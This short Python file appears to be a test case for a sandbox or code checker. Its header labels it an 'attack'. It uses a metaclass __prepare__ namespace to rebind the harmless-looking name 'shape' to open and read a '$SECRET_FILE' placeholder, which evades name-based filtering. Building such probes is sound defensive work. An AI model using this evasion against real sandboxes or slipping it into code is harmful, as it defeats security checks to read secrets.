# attack: the namespace of a class body is any mapping that __prepare__ returns; each plain name in the body asks it first, so `shape` is another thing
# family: attribute
class Names(dict):
    def __missing__(self, name):
        return {"shape": open, "path": "$SECRET_FILE"}[name] if name in ("shape", "path") else __import__("builtins").__dict__[name]
class Meta(type):
    @classmethod
    def __prepare__(meta, name, bases):
        return Names()
class Model(metaclass=Meta):
    print("REACHED", shape)
    print(shape(path).read())
